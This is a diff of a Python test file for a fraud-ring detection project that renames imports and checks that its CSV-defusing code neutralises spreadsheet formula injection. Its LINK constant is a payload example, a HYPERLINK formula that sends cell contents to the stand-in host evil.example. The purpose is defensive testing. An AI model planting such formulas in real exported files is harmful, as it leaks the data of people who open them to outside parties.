@@ -10,7 +10,7 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from graphring.safecsv import TRIGGERS, defuse, defuse_frame, read_csv, restore, write_csv
+from graphring.files.safecsv import TRIGGERS, defuse, defuse_frame, read_csv, restore, write_csv
 
 #: The payloads of issue 18: a live link that sends the sheet's contents out.
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
@@ -97,9 +97,9 @@ def test_output_rule_is_documented():
 @pytest.fixture(scope="module")
 def planted(tmp_path_factory):
     """A generated folder whose planted ring carries LINK as a borrower id and as its complaints' agent."""
-    from graphring.rings import find_rings, write_run
+    from graphring.pipeline import find_rings, write_run
     from graphring.sample import generate
-    from graphring.screen import split_folder
+    from graphring.watch.screen import split_folder
 
     d = tmp_path_factory.mktemp("formulas")
     generate(d / "data", 600, seed=1)
@@ -137,11 +137,11 @@ def _all_csvs(root: Path) -> list[Path]:
 
 
 def test_every_csv_the_pipeline_writes_is_defused_and_read_back_as_it_was(planted, tmp_path):
-    from graphring.evaluate import evaluate, load_truth
+    from graphring.analyse.evaluate import evaluate, load_truth
     from graphring.referral import write_referral
     from graphring.run import read_run
-    from graphring.screen import screen, write_screen
-    from graphring.watchlist import export_watchlist, read_watchlist, write_watchlist
+    from graphring.watch.screen import screen, write_screen
+    from graphring.watch.watchlist import export_watchlist, read_watchlist, write_watchlist
 
     d, run = planted["dir"], planted["run"]
     members = planted["res"].members_table()
@@ -195,16 +195,16 @@ def test_every_csv_the_pipeline_writes_is_defused_and_read_back_as_it_was(plante
 
 
 def test_previous_run_keeps_the_original_ids(planted):
-    from graphring.history import previous_rings
+    from graphring.analyse.history import previous_rings
 
     rings, _ = previous_rings(planted["run"])
     assert any(LINK in b for b in rings.values())
 
 
 def test_a_watchlist_table_in_a_folder_is_read_back_as_written(tmp_path):
-    from graphring.screen import read_new_data
-    from graphring.validate import validate_folder
-    from graphring.watchlist import write_watchlist
+    from graphring.watch.screen import read_new_data
+    from graphring.ingest.validate import validate_folder
+    from graphring.watch.watchlist import write_watchlist
 
     wl = pd.DataFrame({"kind": ["agent", "phone"], "value": [LINK, "+8613812345678"], "label": ["=x", "-1"],
                        "source": ["@bank", "bank"]})
